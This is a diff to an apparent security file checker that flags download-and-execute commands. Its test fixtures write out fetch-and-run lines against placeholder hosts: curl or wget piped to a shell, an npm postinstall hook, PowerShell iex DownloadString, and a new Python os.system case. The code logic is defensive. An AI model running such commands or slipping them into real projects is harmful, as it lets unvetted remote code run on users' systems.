@@ -43,6 +43,10 @@ export const check: FileCheck = {
       { 'install.sh': 'set -e\n«curl -fsSL https://get.example.net/setup.sh | sudo bash» -s -- --yes\n' },
       { 'package.json': '{"scripts": {"postinstall": "«wget -qO- http://203.0.113.5/x | sh»"}}' },
       { 'setup.ps1': "«iex ((New-Object Net.WebClient).DownloadString('https://get.example.net/a.ps1»'))\n" },
+      {
+        'run.py':
+          'SETUP = "«curl -fsSL https://get.example.net/setup.sh | sh»"\nos.system(SETUP)\nprint(f"Ran {SETUP}")\n',
+      },
       { 'boot.sh': 'bash -c "$(true)"\n«bash <(curl -s https://get.example.net/run»)\n' },
     ],
     good: [
@@ -65,7 +69,9 @@ export const check: FileCheck = {
           yield {
             at,
             message: `What ${hostOf(address)} answers is run without being looked at.`,
-            ...weigh(address, text.slice(Math.max(0, at.start - LOOKED_BACK), at.start), language, path),
+            ...(CODE.has(language) && isQuoted(text, at.start) && !SHADY.test(address)
+              ? { confidence: 'low', severity: 'low' }
+              : weigh(address, text.slice(Math.max(0, at.start - LOOKED_BACK), at.start), language, path)),
           };
         }
       }
@@ -91,6 +97,21 @@ function weigh(
 function isInLongText(before: string): boolean {
   const opened = Math.max(...['`', '"""', "'''"].map((mark) => before.lastIndexOf(mark)));
   return opened >= 0 && /\n[^\n]{0,200}\n|\b(?:install|please|requires?|not found)\b/i.test(before.slice(opened));
+}
+
+const NAMED =
+  /^[ \t]{0,40}(?:export\s{1,3})?(?:const\s{1,3}|let\s{1,3}|var\s{1,3})?([A-Z_][A-Z0-9_]{3,60})\s{0,3}=[^=]/;
+
+/** A command that has a name, and whose name stands in nothing but sentences. */
+function isQuoted(text: string, at: number): boolean {
+  const start = text.lastIndexOf('\n', at) + 1;
+  const name = NAMED.exec(text.slice(start, at))?.[1];
+  if (name === undefined) return false;
+  const uses = [...text.matchAll(new RegExp(`\\b${name}\\b`, 'g'))].filter(({ index }) => index < start || index > at);
+  return (
+    uses.length > 0 &&
+    uses.every(({ index }) => /(?:[^"'\x60]\$|[^"'$])\{$/.test(text.slice(Math.max(0, index - 3), index)))
+  );
 }
 
 function hostOf(address: string): string {
